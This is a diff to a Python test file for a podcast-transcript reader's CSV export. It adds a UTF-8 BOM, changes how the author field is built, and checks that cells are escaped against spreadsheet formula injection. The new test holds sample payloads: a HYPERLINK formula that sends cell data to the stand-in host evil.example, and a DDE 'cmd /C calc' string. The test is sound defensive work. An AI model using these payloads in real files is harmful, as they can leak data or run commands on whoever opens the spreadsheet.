@@ -26,7 +26,7 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 import reader.export.model as export_module
-from reader.export.formats import escape_markdown_lines, readwise_date
+from reader.export.formats import escape_markdown_lines, readwise_date, spreadsheet_safe
 from reader.export.model import (
     EXPORT_JSON_SCHEMA,
     build_export,
@@ -37,7 +37,7 @@ from reader.export.model import (
     write_export,
 )
 from reader.keep import Anchor, Bookmark, Episode, Highlight
-from reader.model import Chapter, Transcript
+from reader.model import Chapter, Transcript, Turn
 
 GOLDEN = Path(__file__).resolve().parents[1] / "fixtures" / "export"
 NOW = datetime(2024, 5, 2, 8, 30, tzinfo=UTC)
@@ -453,7 +453,8 @@ def _inline(text: str) -> str:
 
 
 def _csv_rows(text: str) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(text, newline="")))
+    assert text.startswith("\ufeff")  # so Excel reads UTF-8
+    return list(csv.reader(io.StringIO(text[1:], newline="")))
 
 
 def test_readwise_csv_parses_back_to_the_same_text():
@@ -466,7 +467,7 @@ def test_readwise_csv_parses_back_to_the_same_text():
     assert first == {
         "Highlight": a.highlights[1].anchor.quote,
         "Title": a.title,
-        "Author": "Ana & Bo Ng",
+        "Author": "Ana & Bo Ng & SPEAKER_02",
         "URL": f"transcript-reader://open?episode={'9f2c' * 4}&t=130&highlight=2",
         "Note": ".green [00:02:10] " + a.highlights[1].note,
         "Location": "130",
@@ -480,6 +481,7 @@ def test_readwise_csv_parses_back_to_the_same_text():
         "2024-05-01 09:15:00",
         "2024-05-01 09:15:00",
     ]
+    assert {row[2] for row in rows[1:4]} == {"Ana & Bo Ng & SPEAKER_02"}  # one episode, one source
     assert rows[-1][2] == "" and rows[-1][3] == f"transcript-reader://open?episode={'77aa' * 4}&t=3723&highlight=10"
 
 
@@ -499,7 +501,7 @@ def test_readwise_dates_are_utc(stamp, expected):
 
 def test_readwise_csv_lines_end_in_crlf():
     text = to_readwise_csv([_episode_b()])
-    assert text.startswith("Highlight,Title,Author,URL,Note,Location,Date\r\n") and text.endswith("\r\n")
+    assert text.startswith("\ufeffHighlight,Title,Author,URL,Note,Location,Date\r\n") and text.endswith("\r\n")
 
 
 @settings(max_examples=300, deadline=None)
@@ -508,9 +510,31 @@ def test_any_text_survives_the_csv_round_trip(quote, note, title, speaker):
     episode = Episode(1, "fp", title, None, None, 0, None, {"S": speaker})
     ex = build_export(episode, None, [_highlight(1, 754_321, quote, ("S",), "orange", note)], [], NOW)
     (row,) = _csv_rows(to_readwise_csv([ex]))[1:]
-    assert row[:3] == [quote, ex.title, speaker]
+    author = spreadsheet_safe(speaker) if speaker.strip() else ""  # a blank name credits no one
+    assert row[:3] == [spreadsheet_safe(quote), spreadsheet_safe(ex.title), author]
     assert row[4] == f".orange [00:12:34] {note}".rstrip()
     assert row[5] == "754"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_cells_that_a_spreadsheet_would_run_as_formulas_are_kept_as_text(start):
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    episode = Episode(1, "fp", formula, None, None, 0, None, {"S": f"{start}cmd|' /C calc'!A0"})
+    ex = build_export(episode, None, [_highlight(1, 1_000, formula, ("S",), "yellow", formula)], [], NOW)
+    [row] = _csv_rows(to_readwise_csv([ex]))[1:]
+    assert row[0] == row[1] == "'" + formula
+    assert row[2] == "'" + f"{start}cmd|' /C calc'!A0"
+    assert row[4].startswith(".yellow")  # the note cell starts with its tag, never a formula
+
+
+def test_the_author_is_the_episodes_people_never_the_quotes_speaker():
+    episode = Episode(1, "fp", "Show", None, None, 0, None, {"A": "Ana Lima"})
+    turns = tuple(Turn(name, i * 1000, i * 1000 + 900, True, "words") for i, name in enumerate("ABCDE"))
+    transcript = Transcript("plain-text", "Show", (), turns)
+    highlights = [_highlight(i, i * 1000, "words", (name,), "yellow", "") for i, name in enumerate("ABE")]
+    ex = build_export(episode, transcript, highlights, [], NOW)
+    rows = _csv_rows(to_readwise_csv([ex]))[1:]
+    assert {row[2] for row in rows} == {"Ana Lima & B & C and others"}
 
 
 # --- JSON round trip -----------------------------------------------------------
@@ -607,7 +631,7 @@ def test_formats_that_need_an_episode_say_so():
         to_markdown([])
     with pytest.raises(ValueError):
         to_json([])
-    assert to_readwise_csv([]) == "Highlight,Title,Author,URL,Note,Location,Date\r\n"
+    assert to_readwise_csv([]) == "\ufeffHighlight,Title,Author,URL,Note,Location,Date\r\n"
 
 
 # --- Atomic writes -------------------------------------------------------------
